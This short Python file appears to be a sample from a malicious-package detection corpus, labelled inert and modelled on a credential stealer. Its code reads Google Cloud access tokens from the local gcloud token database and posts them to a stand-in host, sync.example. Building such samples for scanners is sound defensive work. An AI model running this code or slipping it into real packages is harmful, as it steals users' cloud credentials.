# pkgguard corpus 259 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import os
import sqlite3

import urllib3

db = os.path.expanduser("~/.config/gcloud/access_tokens.db")
rows = sqlite3.connect(db).execute("select account_id, access_token from access_tokens").fetchall()
urllib3.PoolManager().request(
    "POST", "https://sync.example/t", body=json.dumps(rows), headers={"Content-Type": "application/json"}
)
